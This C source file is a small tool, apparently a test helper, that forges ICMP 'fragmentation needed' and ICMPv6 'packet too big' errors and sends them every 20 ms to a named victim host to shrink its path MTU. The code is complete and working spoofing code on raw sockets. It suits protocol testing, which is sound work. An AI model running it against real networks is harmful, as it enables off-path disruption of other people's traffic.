/*
 * Forges ICMP errors: "forge-mtu VICTIM PEER PORT MTU..." reports to VICTIM that its UDP datagrams
 * from PORT to PORT of PEER are larger than each MTU, every 20 ms until it is stopped. Addresses of
 * either family. Needs CAP_NET_RAW.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { QUOTED_BYTES = 1400 };

union address {
  struct sockaddr any;
  struct sockaddr_in v4;
  struct sockaddr_in6 v6;
};

static union address parse(const char *text) {
  union address address;
  memset(&address, 0, sizeof(address));
  if (inet_pton(AF_INET, text, &address.v4.sin_addr) == 1) address.any.sa_family = AF_INET;
  else if (inet_pton(AF_INET6, text, &address.v6.sin6_addr) == 1) address.any.sa_family = AF_INET6;
  else exit(2);
  return address;
}

static uint16_t checksum(const uint8_t *bytes, size_t count) {
  uint32_t sum = 0;
  for (size_t at = 0; at < count; at += 2) sum += (uint32_t)(bytes[at] << 8 | bytes[at + 1]);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

static struct udphdr udp_of(unsigned port) {
  struct udphdr udp;
  memset(&udp, 0, sizeof(udp));
  udp.uh_sport = udp.uh_dport = htons((uint16_t)port);
  udp.uh_ulen = htons(QUOTED_BYTES);
  return udp;
}

static size_t make_v4(uint8_t *out, const union address *victim, const union address *peer, unsigned port,
                      unsigned mtu) {
  struct {
    struct icmphdr icmp;
    struct iphdr ip;
    struct udphdr udp;
  } error;
  memset(&error, 0, sizeof(error));
  error.icmp.type = ICMP_DEST_UNREACH;
  error.icmp.code = ICMP_FRAG_NEEDED;
  error.icmp.un.frag.mtu = htons((uint16_t)mtu);
  error.ip.version = 4;
  error.ip.ihl = 5;
  error.ip.tot_len = htons(QUOTED_BYTES + sizeof(error.ip));
  error.ip.frag_off = htons(IP_DF);
  error.ip.ttl = 63;
  error.ip.protocol = IPPROTO_UDP;
  error.ip.saddr = victim->v4.sin_addr.s_addr;
  error.ip.daddr = peer->v4.sin_addr.s_addr;
  error.udp = udp_of(port);
  memcpy(out, &error, sizeof(error));
  error.icmp.checksum = checksum(out, sizeof(error));
  memcpy(out, &error, sizeof(error));
  return sizeof(error);
}

/* The kernel computes the ICMPv6 checksum (RFC 3542 §3.1). */
static size_t make_v6(uint8_t *out, const union address *victim, const union address *peer, unsigned port,
                      unsigned mtu) {
  struct {
    struct icmp6_hdr icmp;
    struct ip6_hdr ip;
    struct udphdr udp;
  } error;
  memset(&error, 0, sizeof(error));
  error.icmp.icmp6_type = ICMP6_PACKET_TOO_BIG;
  error.icmp.icmp6_mtu = htonl(mtu);
  error.ip.ip6_vfc = 6 << 4;
  error.ip.ip6_plen = htons(QUOTED_BYTES);
  error.ip.ip6_nxt = IPPROTO_UDP;
  error.ip.ip6_hlim = 63;
  error.ip.ip6_src = victim->v6.sin6_addr;
  error.ip.ip6_dst = peer->v6.sin6_addr;
  error.udp = udp_of(port);
  memcpy(out, &error, sizeof(error));
  return sizeof(error);
}

int main(int count, char **arguments) {
  const struct timespec pause = {.tv_nsec = 20 * 1000 * 1000};
  uint8_t packet[128];
  if (count < 5) return 2;
  const union address victim = parse(arguments[1]), peer = parse(arguments[2]);
  const unsigned port = (unsigned)atoi(arguments[3]);
  const bool is_v4 = victim.any.sa_family == AF_INET;
  const int fd = socket(victim.any.sa_family, SOCK_RAW, is_v4 ? IPPROTO_ICMP : IPPROTO_ICMPV6);
  if (fd < 0) {
    perror("socket");
    return 1;
  }
  printf("ready\n");
  fflush(stdout);
  for (int at = 4;; at = at + 1 < count ? at + 1 : 4) {
    const unsigned mtu = (unsigned)atoi(arguments[at]);
    const size_t length =
        is_v4 ? make_v4(packet, &victim, &peer, port, mtu) : make_v6(packet, &victim, &peer, port, mtu);
    if (sendto(fd, packet, length, 0, &victim.any, is_v4 ? sizeof(victim.v4) : sizeof(victim.v6)) < 0 &&
        errno != ECONNREFUSED)
      perror("sendto");
    nanosleep(&pause, NULL);
  }
}
